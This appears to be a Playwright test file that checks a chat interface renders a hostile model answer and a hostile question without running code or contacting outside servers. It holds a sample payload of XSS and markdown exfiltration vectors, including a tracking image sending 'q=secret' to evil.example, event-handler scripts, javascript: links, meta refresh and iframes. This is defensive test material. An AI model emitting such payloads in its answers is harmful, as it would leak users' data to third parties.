"""Text of models and documents is shown, and cannot load, send or run anything."""

from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

from playwright.sync_api import Page, expect

from tests.browser.ollama import OllamaStub
from tests.browser.test_chat import answered, ask

HOSTILE = """\
![tracking pixel](http://evil.example/pixel.png?q=secret) and [a kind offer](http://evil.example/login)

<img src="http://evil.example/image.png" onerror="document.title='owned'">
<script>document.title = "owned"</script> <style>@import url(http://evil.example/style.css)</style>

[run](javascript:document.title='owned') <http://evil.example/auto> https://evil.example/bare [ref][1]

[1]: http://evil.example/reference

# [heading](http://evil.example/heading)

- ![list](http://evil.example/list.png)

> ![quote](http://evil.example/quote.png)

| a | b |
|---|---|
| ![cell](http://evil.example/cell.png) | <iframe src="http://evil.example/frame"></iframe> |

```html
<img src="http://evil.example/code.png">
```

<svg onload="document.title='owned'"></svg> <video poster="http://evil.example/poster.png"></video>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"> <base href="http://evil.example/">
<link rel="prefetch" href="http://evil.example/prefetch"> <input autofocus onfocus="document.title='owned'">
<p style="background: url(http://evil.example/background.png)">styled</p> <form action="http://evil.example/form"></form>

![relative](//evil.example/relative.png) ![data](data:text/html,<script>document.title='owned'</script>)
[entity](&#x6A;avascript:document.title='owned') ![ref][1] [![both](http://evil.example/in.png)](http://evil.example/out)
"""
ACTIVE = (
    "a, img, script, style, iframe, object, embed, form, input, video, audio, svg:not(.icon), link, meta, base, "
    "[href], [src], [srcset], [style], [poster], [onerror], [onload], [onfocus]"
)
"""Elements that could load, send or run something."""


@contextmanager
def no_external_request(page: Page) -> Iterator[None]:
    """In the block, the page must not send a request to another server, run code of an answer, or be left."""
    requested: list[str] = []
    address = urlsplit(page.url)
    page.context.on("request", lambda request: requested.append(request.url))
    yield
    page.wait_for_load_state("networkidle")
    assert [url for url in requested if not url.startswith(f"http://{address.netloc}/")] == []
    assert (urlsplit(page.url).netloc, page.title()) == (address.netloc, "MyStack")


def test_a_hostile_answer_leaks_nothing(page: Page, ollama: OllamaStub) -> None:
    ollama.say(HOSTILE)
    with no_external_request(page):
        ask(page, "Summarise my mail")
        answered(page)
    body = page.locator("article.assistant .body")
    assert body.locator(ACTIVE).count() == 0
    expect(body).to_contain_text("a kind offer (http://evil.example/login)")
    expect(body).to_contain_text("tracking pixel (http://evil.example/pixel.png?q=secret)")
    expect(body).to_contain_text('<script>document.title = "owned"</script>')


def test_neither_does_a_hostile_question(page: Page, ollama: OllamaStub) -> None:
    with no_external_request(page):
        ask(page, "<img src=http://evil.example/x onerror=alert(1)> **not bold**")
        answered(page)
    question = page.locator("article.user .body")
    expect(question).to_have_text("<img src=http://evil.example/x onerror=alert(1)> **not bold**")
    assert question.locator("img, strong").count() == 0
